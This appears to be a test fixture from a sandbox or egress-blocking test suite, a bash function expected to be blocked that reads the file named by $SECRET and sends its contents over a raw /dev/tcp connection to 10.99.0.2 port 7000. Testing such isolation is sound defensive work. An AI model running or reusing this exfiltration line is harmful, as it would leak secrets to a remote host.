# SPDX-License-Identifier: MIT
# shellcheck shell=bash
# channel: The shell alone
# how: bash, /dev/tcp and a built-in echo
# expect: blocked

send() {
	bash -c 'read -r t <"$1"; exec 3>/dev/tcp/10.99.0.2/7000 || exit 3
		echo "$t" >&3 || exit 3' - "$SECRET"
}
